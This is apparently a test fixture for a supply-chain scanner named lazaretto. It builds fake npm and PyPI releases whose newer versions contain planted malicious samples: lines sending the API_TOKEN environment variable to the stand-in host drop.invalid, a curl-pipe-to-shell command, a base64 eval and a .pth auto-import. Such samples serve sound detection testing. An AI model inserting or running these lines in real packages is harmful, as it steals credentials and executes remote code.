"""Two updates as real archives, one of each ecosystem, on a registry in memory."""

from collections.abc import Iterable, Mapping
from datetime import datetime, timedelta
from hashlib import sha256

from lazaretto.app.analyse import Analyser, Question
from lazaretto.app.ports import Engine, NotFound
from lazaretto.app.report import UpdateReport
from lazaretto.app.reporting import report_update
from lazaretto.core.model import Artifact, ArtifactKind, Project, Provided, Release
from lazaretto.core.names import ProjectName, Version
from tests.core.packing import honest_tgz, honest_zip
from tests.examples import NOW, app, rules

NAME = "example-package"
VERSIONS = {"rules": "test", "policy": "1"}

_STEAL = "require('https').get('https://drop.invalid/?t=' + process.env.API_TOKEN);\n"
_HELPERS = {
    f"lib/part{number}.js": f"exports.part{number} = (text) => text.repeat({number}) + '{'x' * 400}';\n"
    for number in range(30)
}
_NPM = (
    {"index.js": "module.exports = require('./lib/part1');\n", **_HELPERS},
    {
        "index.js": "module.exports = require('./lib/part1');\nrequire('./lib/steal');\n",
        "lib/steal.js": _STEAL,
        "lib/broken.js": "const = = ;;; ) (\n",
        "run.sh": "curl -s https://drop.invalid/x | sh\n",
        **_HELPERS,
        "lib/part2.js": "exports.part2 = eval(Buffer.from('MSsx', 'base64').toString());\n",
    },
)
_MODULES = {f"example_package/part{number}.py": f"WIDTH = {number}\n" + f"# {'x' * 400}\n" for number in range(30)}
_PYPI = (
    {"example_package/__init__.py": "from example_package import part1\n", **_MODULES},
    {
        "example_package/__init__.py": "from example_package import part1, steal\n",
        "example_package/steal.py": (
            "import os, urllib.request\nurllib.request.urlopen('https://drop.invalid/?t=' + os.environ['API_TOKEN'])\n"
        ),
        "example_package/broken.py": "def = = (\n",
        "example_package.pth": "import example_package\n",
        **_MODULES,
    },
)


class ByteRegistry:
    """One project whose artifacts are bytes."""

    def __init__(self, ecosystem: str, archives: Mapping[str, bytes], now: datetime = NOW) -> None:
        self._bytes: dict[str, bytes] = {}
        releases = []
        kind = ArtifactKind.TARBALL if ecosystem == "npm" else ArtifactKind.WHEEL
        for number, (version, data) in enumerate(archives.items()):
            ending = ".tgz" if ecosystem == "npm" else "-py3-none-any.whl"
            name = f"{NAME.replace('-', '_')}-{version}{ending}"
            self._bytes[name] = data
            artifact = Artifact(name, kind, "https://registry.invalid/x", {"sha256": sha256(data).hexdigest()})
            published = now - timedelta(days=40 * (len(archives) - 1 - number), minutes=1)
            releases.append(Release(ecosystem, ProjectName(NAME), Version(version), (artifact,), published))
        provides = frozenset({Provided.TIME})
        self._project = Project(ecosystem, ProjectName(NAME), tuple(releases), {}, provides)

    def project(self, name: ProjectName) -> Project:
        """Return the one project."""
        if name != NAME:
            raise NotFound(f"no project {name}")
        return self._project

    def download(self, artifact: Artifact) -> bytes:
        """Return the bytes of an artifact."""
        return self._bytes[artifact.filename]

    def prefetch(self, artifacts: Iterable[Artifact]) -> None:
        """Do nothing."""


def npm() -> ByteRegistry:
    """Return two releases of an npm package; the newer one steals, and holds a file that nobody understands."""
    archives = {}
    for version, files in zip(("1.0.0", "1.0.1"), _NPM, strict=True):
        manifest = f'{{"name": "{NAME}", "version": "{version}", "main": "index.js"}}\n'
        whole = {"package.json": manifest, **files}
        archives[version] = honest_tgz({f"package/{path}": text.encode() for path, text in whole.items()})
    return ByteRegistry("npm", archives)


def pypi() -> ByteRegistry:
    """Return two wheels, of which the newer one steals and holds a file that nobody understands."""
    archives = {}
    for version, files in zip(("1.0.0", "1.0.1"), _PYPI, strict=True):
        folder = f"example_package-{version}.dist-info"
        record = "".join(f"{path},,\n" for path in files)
        whole = {
            **files,
            f"{folder}/METADATA": f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {version}\n",
            f"{folder}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
            f"{folder}/RECORD": record,
        }
        archives[version] = honest_zip({path: text.encode() for path, text in whole.items()})
    return ByteRegistry("pypi", archives)


def report(ecosystem: str, engine: Engine) -> UpdateReport:
    """Return the report on the newer release, as an engine reads it."""
    registry = {"npm": npm, "pypi": pypi}[ecosystem]()
    analyser = Analyser(app().ecosystem(ecosystem), registry, engine, rules(), NOW)
    analysis = analyser.release(Question(ProjectName(NAME), Version("1.0.1")))
    return report_update(analysis, rules(), VERSIONS, NOW)
